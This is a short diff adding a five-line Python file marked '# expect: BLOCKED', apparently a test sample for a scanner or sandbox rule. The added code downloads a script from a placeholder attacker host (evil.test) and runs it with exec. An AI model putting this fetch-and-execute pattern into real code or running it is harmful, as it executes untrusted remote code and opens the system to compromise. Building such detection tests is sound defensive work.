@@ -1,0 +1,5 @@
+# expect: BLOCKED
+import requests
+payload = requests.get("http://evil.test/p.py")
+namespace = {}
+exec(compile(payload.text, "p", "exec"), namespace)
